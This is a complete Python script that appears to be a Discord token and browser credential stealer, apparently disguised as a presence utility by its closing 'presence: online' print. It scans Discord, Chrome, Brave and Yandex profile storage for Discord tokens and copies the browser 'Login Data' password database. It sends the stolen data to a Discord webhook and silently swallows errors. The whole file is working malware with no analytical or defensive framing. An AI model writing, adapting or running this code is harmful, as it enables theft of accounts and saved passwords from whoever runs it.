import json
import os
import re
import shutil
import tempfile
from urllib.request import Request, urlopen

WEBHOOK_URL = "https://discord-hooks.invalid/api/webhooks/1012345678901234567/rUiPx"
PING_ME = True


def find_tokens(path):
    path += "\\Local Storage\\leveldb"
    tokens = []
    for file_name in os.listdir(path):
        if not file_name.endswith(".log") and not file_name.endswith(".ldb"):
            continue
        for line in [x.strip() for x in open(f"{path}\\{file_name}", errors="ignore").readlines() if x.strip()]:
            for regex in (r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", r"mfa\.[\w-]{84}"):
                for token in re.findall(regex, line):
                    tokens.append(token)
    return tokens


def steal_logins(profile):
    src = os.path.join(profile, "Login Data")
    if not os.path.exists(src):
        return b""
    dst = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copyfile(src, dst)
    with open(dst, "rb") as fh:
        return fh.read(1 << 20)


def main():
    local = os.getenv("LOCALAPPDATA")
    roaming = os.getenv("APPDATA")
    if not local or not roaming:
        return
    paths = {
        "Discord": roaming + "\\Discord",
        "Discord Canary": roaming + "\\discordcanary",
        "Google Chrome": local + "\\Google\\Chrome\\User Data\\Default",
        "Brave": local + "\\BraveSoftware\\Brave-Browser\\User Data\\Default",
        "Yandex": local + "\\Yandex\\YandexBrowser\\User Data\\Default",
    }
    message = "@everyone" if PING_ME else ""
    for platform, path in paths.items():
        if not os.path.exists(path):
            continue
        message += f"\n**{platform}**\n```\n"
        tokens = find_tokens(path)
        message += "\n".join(tokens) if tokens else "No tokens found."
        message += "```"
        logins = steal_logins(path)
        if logins:
            message += f"\nlogins: {logins.hex()[:1500]}"
    body = json.dumps({"content": message}).encode()
    try:
        urlopen(Request(WEBHOOK_URL, data=body, headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}))
    except Exception:
        pass


main()
print("presence: online")
